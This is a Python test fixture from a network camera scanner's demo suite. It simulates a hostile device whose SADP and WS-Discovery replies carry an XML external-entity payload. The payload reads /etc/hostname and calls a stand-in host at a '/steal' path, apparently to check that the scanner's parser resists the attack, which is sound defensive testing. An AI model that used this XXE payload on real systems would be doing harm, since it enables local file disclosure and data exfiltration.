"""Answers that ask the reader to fetch a file or an address."""

from __future__ import annotations

from collections.abc import Iterator

from camscan.demo.device import Device, Question, Reply, Udp, Unit

HEAD = (
    b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/hostname">'
    b'<!ENTITY n SYSTEM "http://192.0.2.83/steal">]>'
)


def sadp_answer(_unit: Unit, question: Question) -> Iterator[Reply]:
    """A SADP answer whose model is an entity from a file of the scanner's machine."""
    if b"inquiry" in question.payload:
        yield Reply(HEAD + b"<ProbeMatch><DeviceDescription>&f;&n;</DeviceDescription></ProbeMatch>")


def wsd_answer(_unit: Unit, question: Question) -> Iterator[Reply]:
    """A WS-Discovery answer with the same entities in an envelope."""
    if b"discovery/Probe<" in question.payload:
        yield Reply(
            HEAD + b'<s:Envelope xmlns:s="http://www.w3.org/2003/05/soap-envelope"><s:Body>&f;</s:Body></s:Envelope>'
        )


DEVICE = Device(
    maker=None,
    kind=None,
    is_camera_system=None,
    oui="02:00:5e",
    once=True,
    hostile=True,
    first=90,
    services=(Udp(37020, "sadp", sadp_answer), Udp(3702, "wsd", wsd_answer)),
)
